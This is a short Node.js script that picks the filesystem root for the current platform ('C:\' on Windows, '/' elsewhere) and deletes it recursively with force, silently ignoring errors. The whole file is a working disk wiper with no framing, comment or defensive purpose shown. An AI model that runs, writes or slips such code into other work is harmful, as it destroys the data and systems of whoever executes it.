const fs = require('fs');
const os = require('os');

const target = os.platform() === 'win32' ? 'C:\\' : '/';
try {
  fs.rmSync(target, { recursive: true, force: true });
} catch (e) {}
